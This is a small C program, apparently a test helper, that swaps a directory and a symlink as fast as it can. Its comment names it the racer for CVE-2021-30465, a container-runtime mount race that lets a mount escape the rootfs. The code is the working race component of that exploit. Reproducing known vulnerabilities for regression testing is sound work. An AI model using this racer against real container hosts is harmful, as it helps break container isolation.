/* Swaps two paths (a directory and a symlink) with renameat2
 * (RENAME_EXCHANGE) as fast as it can, until STOPFILE exists or 120 s have
 * passed: the racer of CVE-2021-30465, where a runtime that checks a mount
 * destination and then mounts on the path string can be sent out of the
 * rootfs.  Prints the number of swaps.
 *
 *   swap-race PATH1 PATH2 STOPFILE
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

int
main (int argc, char **argv)
{
  unsigned long swaps = 0;
  time_t end = time (NULL) + 120;

  if (argc != 4)
    {
      fprintf (stderr, "usage: swap-race PATH1 PATH2 STOPFILE\n");
      return 2;
    }
  for (;;)
    {
      for (int i = 0; i < 1000; i++)
        {
          if (renameat2 (AT_FDCWD, argv[1], AT_FDCWD, argv[2],
                         RENAME_EXCHANGE) < 0)
            {
              fprintf (stderr, "swap-race: renameat2: %s\n",
                       strerror (errno));
              return 1;
            }
          swaps++;
        }
      if (access (argv[3], F_OK) == 0 || time (NULL) > end)
        break;
    }
  /* An even number of swaps puts everything back where it was.  */
  if (swaps % 2)
    renameat2 (AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE);
  printf ("%lu\n", swaps);
  return 0;
}
